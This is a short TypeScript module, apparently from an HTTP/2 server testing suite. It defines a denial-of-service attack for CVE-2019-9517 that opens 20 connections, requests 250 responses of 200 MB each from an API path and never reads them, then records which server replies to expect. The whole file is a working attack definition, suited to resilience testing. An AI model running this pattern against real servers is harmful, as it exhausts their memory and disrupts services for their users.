// Answers that are never read, though all windows are open.

import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2019-9517',
  does: 'asks for 250 lists of 200 MB and reads nothing, on 20 connections',
  who: ['known', 'unknown'],
  // An answer without progress is reset when its user has too many of them.
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', 'RST_STREAM INTERNAL_ERROR'],
  run: (target, signal) =>
    attackHttp2(target, signal, { connections: 20, reads: false }, (connection) =>
      closedLoop(connection, 250, request(head(target, 'GET', '/api/v1/pods?bytes=200000000'))),
    ),
}
